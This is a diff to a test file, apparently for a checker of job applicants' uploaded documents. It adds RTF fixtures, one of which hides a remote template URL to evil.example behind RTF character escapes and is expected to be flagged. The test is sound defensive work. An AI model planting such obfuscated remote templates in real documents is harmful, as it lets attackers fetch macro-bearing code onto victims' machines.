@@ -80,6 +80,13 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
       'fetches or sends something',
     ],
     [
+      'an RTF file with a template from elsewhere, its letters written as numbers',
+      'rtf',
+      rtf("{\\*\\template \\u104?ttps://evil.example/a.dotm}{\\*\\template \\'68ttps://evil.example}"),
+      'RTF',
+      'fetches or sends something',
+    ],
+    [
       'a Word file with a template from elsewhere',
       'docx',
       docx(settings('https://evil.example/a.dotm')),
@@ -132,6 +139,11 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
     ],
     ['a Word file with a template of its writer', 'docx', docx(settings('file:///C:\\Users\\Ada\\CV.dotx'))],
     ['a Word file with a chart', 'docx', docx({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK' })],
+    [
+      'an RTF file with templates of its writer',
+      'rtf',
+      rtf("{\\*\\template C:\\\\Users\\\\Ad\\'e9\\\\CV.dotx}{\\*\\template Normal.dotm}"),
+    ],
     ['an RTF file with a picture', 'rtf', rtf('{\\pict\\pngblip 89504e47}')],
   ])('are taken: %s', async (_what, extension, content) => {
     const { answer, stored } = await apply(extension, content);
